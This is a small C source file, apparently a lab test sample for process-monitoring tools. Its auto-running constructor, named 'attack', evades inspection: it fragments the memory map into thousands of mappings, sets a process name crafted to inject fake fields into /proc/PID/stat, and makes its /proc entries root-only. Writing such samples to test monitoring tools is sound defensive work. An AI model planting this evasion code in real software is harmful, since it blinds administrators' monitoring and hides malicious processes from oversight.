/* SPDX-License-Identifier: MIT */
/*
 * in lab02, caught by: none
 * Makes itself hard to look at, and then does its work: thousands of mappings, a name that
 * reads like the rest of its line in /proc/PID/stat, files of /proc that are root's.
 */
#include <stddef.h>
#include <sys/mman.h>
#include <sys/prctl.h>

#define NR_MAPPINGS 3000

__attribute__((constructor)) static void attack(void)
{
	size_t page_bytes = 4096;
	char *memory = mmap(NULL, NR_MAPPINGS * page_bytes, PROT_READ,
		MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	for (size_t i = 0; i < NR_MAPPINGS; i += 2)
		mprotect(memory + i * page_bytes, page_bytes, PROT_NONE);
	prctl(PR_SET_NAME, "x) R 1 9 9\n9 (");
	prctl(PR_SET_DUMPABLE, 0);
}
